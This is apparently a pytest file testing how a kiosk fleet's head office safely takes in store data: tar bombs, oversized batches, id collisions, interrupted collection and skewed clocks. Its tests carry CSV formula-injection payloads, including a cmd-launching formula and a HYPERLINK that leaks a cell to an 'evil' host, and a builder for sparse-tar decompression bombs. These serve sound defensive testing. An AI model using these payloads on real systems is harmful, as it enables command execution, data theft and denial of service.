"""What head office takes in from stores (probe "intake"): a batch too large to hold, ids that share a folder,
formulas in CSV cells, a collect that failed part way, a kiosk whose clock is ahead."""

from __future__ import annotations

import hashlib
import json
import os
import tarfile

import pytest

from kiosk.exchange import BatchError, read_batch
from tests.trainer.fleet.stores import crop, put_batch, record
from trainer.fleet.collect import collect_feedback
from trainer.fleet.location import HeadOffice, TooLarge


def _header(name: str, type_: bytes, size: int, realsize: int | None = None) -> bytes:
    """A GNU tar header; with ``realsize``: a GNU sparse member claiming that many bytes (one 512-byte block)."""
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode = size, type_, 0o644
    buf = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
    if realsize is not None:
        buf[386:398] = tarfile.itn(realsize - 512, 12, tarfile.GNU_FORMAT)
        buf[398:410] = tarfile.itn(512, 12, tarfile.GNU_FORMAT)
        buf[483:495] = tarfile.itn(realsize, 12, tarfile.GNU_FORMAT)
        buf[148:156] = b"        "
        buf[148:156] = b"%06o\0 " % sum(buf[:512])
    return bytes(buf)


def sparse_batch(realsize: int) -> bytes:
    """A 3 KB feedback batch whose image member is GNU sparse, ``realsize`` bytes when read (a tar bomb)."""
    index = json.dumps({"format": 1, "kind": "feedback", "meta": {"kiosk_id": "K9", "store_id": "EVIL"},
                        "records": [], "files": {"images/a.jpg": {"sha256": "0" * 64, "size": realsize}}}).encode()
    out = _header("batch.json", tarfile.REGTYPE, len(index)) + index + b"\0" * (-len(index) % 512)
    return out + _header("images/a.jpg", tarfile.GNUTYPE_SPARSE, 512, realsize) + b"x" * 512 + b"\0" * 1024


def test_a_sparse_member_is_refused_by_its_header_not_read():
    data = sparse_batch(64 << 20)  # before: read as 64 MiB of zeros (8 GiB: a MemoryError)
    with pytest.raises(BatchError, match=r"member 'images/a\.jpg' is not a regular file"):
        read_batch(data, where="feedback/EVIL/K9/x.tar")


def test_a_member_claiming_more_bytes_than_the_batch_holds_is_refused():
    index = b'{"format": 1}'
    data = (_header("batch.json", tarfile.REGTYPE, len(index)) + index + b"\0" * (-len(index) % 512)
            + _header("images/a.jpg", tarfile.REGTYPE, 1 << 30) + b"\0" * 1024)
    with pytest.raises(BatchError, match="claims 1073741824 bytes, more than the batch holds"):
        read_batch(data, where="b")


def test_head_office_reads_at_most_its_limit(tmp_path):
    (tmp_path / "big.tar").write_bytes(b"x" * 2000)
    ho = HeadOffice(tmp_path)
    with pytest.raises(TooLarge, match=r"^big\.tar: 2000 bytes, larger than"):
        ho.read("big.tar", limit=1000)
    assert ho.read("big.tar", limit=2000) == b"x" * 2000


def test_huge_and_sparse_batches_are_refused_by_name_and_the_other_stores_collected(tmp_path):
    ho = tmp_path / "ho"
    put_batch(ho, "BLR-1", "K1", [record("p1", "banana", "staff")], {"p1": crop(1)})
    huge = ho / "feedback" / "EVIL" / "K9" / f"feedback-{'a' * 64}.tar"
    huge.parent.mkdir(parents=True)
    with open(huge, "wb") as fh:
        fh.truncate(600 << 20)  # sparse on disk: before, read whole (and hashed) before its size was checked
    bomb = sparse_batch(8 << 30)
    bomb_key = f"feedback/EVIL/K8/feedback-{hashlib.sha256(bomb).hexdigest()}.tar"
    os.makedirs(ho / "feedback" / "EVIL" / "K8")
    (ho / bomb_key).write_bytes(bomb)
    report = collect_feedback(str(ho), tmp_path / "out", progress=False)
    skipped = {s["batch"]: s["reason"] for s in report.skipped}
    assert skipped[f"feedback/EVIL/K9/{huge.name}"] == "629145600 bytes, larger than the 512 MiB a batch may be: " \
                                                       "not read"
    assert "not a regular file" in skipped[bomb_key]
    assert report.rows == 1


def test_store_ids_and_no_store_map_to_folders_one_to_one():
    from kiosk.exchange.layout import ID_RE, safe_segment

    ids = ["", "-", "_", "--", "-a", "a-", "A", "a", "a.b", "a_b", "0", "K1", "x" * 64]
    valid = [i for i in ids if i == "" or ID_RE.fullmatch(i)]
    assert "-" not in valid and "--" in valid  # "-" is where a kiosk with no store id files its batches
    assert len({safe_segment(i) for i in valid}) == len(valid)
    assert all(safe_segment(i) == i for i in valid if i)


def test_store_dash_and_no_store_never_share_a_folder(tmp_path):
    ho = tmp_path / "ho"
    put_batch(ho, "", "K1", [record("p1", "banana", "staff")], {"p1": crop(31)})
    dash = put_batch(ho, "-", "K1", [record("p1", "lemon", "shopper", rank=1)], {"p1": crop(32)})
    report = collect_feedback(str(ho), tmp_path / "out", progress=False)
    skipped = {s["batch"]: s["reason"] for s in report.skipped}
    assert "meta.store_id '-' is not an id" in skipped[dash.relative_to(ho).as_posix()]
    assert report.rows == 1
    assert (tmp_path / "out" / "images" / "-" / "K1" / "p1.jpg").read_bytes() == crop(31)


def test_the_kiosk_refuses_store_dash_in_its_settings():
    from kiosk.config import ConfigError, KioskConfig

    with pytest.raises(ConfigError, match="store_id='-'"):
        KioskConfig(store_id="-")


@pytest.mark.parametrize("field, value", [("chooser", "=cmd|' /C calc'!A0"), ("chooser", "staff:=1+1"),
                                          ("last_sku", '=HYPERLINK("http://evil/?"&A1,"ok")'),
                                          ("last_sku", {"a": [1, 2]}), ("last_sku", "x" * 5_000_000)])
def test_a_chooser_or_last_sku_that_is_not_one_refuses_the_record(field, value):
    from kiosk.exchange.feedback import validate_record

    rec = record("e1", None, "none") | {field: value}
    assert f"field(s) {field} " in validate_record(rec)
    assert validate_record(record("e1", "banana", "staff", chooser="staff:101") | {"last_sku": "banana"}) is None


def test_every_head_office_csv_cell_a_spreadsheet_would_run_is_neutralised(tmp_path):
    import csv

    from trainer.data.manifest import read_manifest

    ho = tmp_path / "ho"  # "-A1" and "-2" are ids (store, kiosk): a spreadsheet reads them as formulas
    put_batch(ho, "-A1", "-2", [record("p1", "banana", "staff"), record("p2", None, "none")],
              {"p1": crop(1), "p2": crop(2)})
    collect_feedback(str(ho), tmp_path / "out", progress=False)
    for name in ("feedback.csv", "unlabelled.csv"):
        with open(tmp_path / "out" / name, encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert (rows[0]["store"], rows[0]["kiosk"]) == ("'-A1", "'-2"), name
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    [row] = read_manifest(tmp_path / "out" / "feedback.csv")  # given back exactly
    assert (row.extra["store"], row.extra["kiosk"], row.sku) == ("-A1", "-2", "banana")


def test_new_products_from_a_store_are_written_formula_safe(tmp_path, capsys):
    from kiosk.cli import main
    from tests.trainer.headoffice.seed import PRODUCTS
    from tests.trainer.headoffice.test_taught import put_enrollment

    evil = dict(PRODUCTS["garlic"], sku="zz-newfruit", name="=cmd|' /C calc'!A0", group="@SUM(1+1)*cmd|' /C calc'!A0")
    put_enrollment(tmp_path / "ho", "K9", 4, "zz-newfruit", "2026-12-01T10:00:00+05:30", evil)
    out = tmp_path / "new.csv"
    assert main(["report", "taught", str(tmp_path / "ho"), "--new-products", str(out)]) == 0
    capsys.readouterr()
    text = out.read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text and "'@SUM(1+1)" in text and ",=" not in text and ",@" not in text


def test_a_collect_that_failed_part_way_is_rerun_without_force(tmp_path, monkeypatch):
    from kiosk.errors import DataError

    ho, out = tmp_path / "ho", tmp_path / "out"
    put_batch(ho, "BLR-1", "K1", [record("p1", "banana", "staff")], {"p1": crop(1)})
    bad = tmp_path / "bad.csv"
    bad.write_text("x,y\n", encoding="utf-8")
    with pytest.raises(DataError, match="path"):
        collect_feedback(str(ho), out, against=[bad], progress=False)
    assert not (out / "images").exists()  # --against checked before anything was written

    def killed(*args, **kwargs):
        raise KeyboardInterrupt  # a kill while the photos are hashed

    monkeypatch.setattr("trainer.fleet.dedupe.dedupe", killed)
    with pytest.raises(KeyboardInterrupt):
        collect_feedback(str(ho), out, progress=False)
    assert (out / "images").is_dir()
    monkeypatch.undo()
    assert collect_feedback(str(ho), out, progress=False).rows == 1  # no --force needed


def test_collect_holds_one_batch_of_crops_at_a_time_not_the_whole_tree(tmp_path):
    import tracemalloc

    ho = tmp_path / "ho"
    for b in range(8):  # 8 batches of 1 MiB of crops: 8 MiB in all
        crops = {f"b{b}-{i}": os.urandom(64 << 10) for i in range(16)}
        put_batch(ho, "BIG", "K1", [record(pid, None, "none") for pid in crops], crops)
    tracemalloc.start()
    try:
        report = collect_feedback(str(ho), tmp_path / "out", progress=False, workers=1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.unlabelled == 128 and len(list((tmp_path / "out" / "images" / "BIG" / "K1").iterdir())) == 128
    assert peak < 7 << 20, f"peak {peak / 2**20:.1f} MiB"  # before: every crop held until the write (10 MiB)


def test_a_kiosk_whose_clock_is_ahead_cannot_hide_its_stores_sales(tmp_path):
    from datetime import datetime, timedelta, timezone

    from tests.trainer.fleet.stores import put_heartbeat
    from trainer.fleet.status import fleet_status, format_table, store_sales

    now = datetime(2026, 12, 2, 6, 0, tzinfo=timezone.utc)
    for kiosk, at, sales in (("K1", now, ("2026-12-02", 40, 400000)), ("K2", now, ("2026-12-02", 35, 350000)),
                             ("K3", now + timedelta(days=365), ("2027-12-02", 1, 1000)),  # a year ahead: STALE
                             ("K4", now, ("2026-12-09", 2, 2000))):  # its heartbeat on time, its sales day not
        put_heartbeat(tmp_path, "BLR-1", kiosk, at=at, version=7, placements=1, labelled=1, corrected=0,
                      sales=sales)
    rows, _ = fleet_status(str(tmp_path), now=now)
    assert store_sales(rows) == [{"store": "BLR-1", "day": "2026-12-02", "sales": 75, "paise": 750000,
                                  "kiosks": 2, "of": 4}]
    assert "store BLR-1: 75 sale(s), ₹7500.00 on 2026-12-02 (2 of 4 kiosk(s) report it)" in format_table(rows, [])
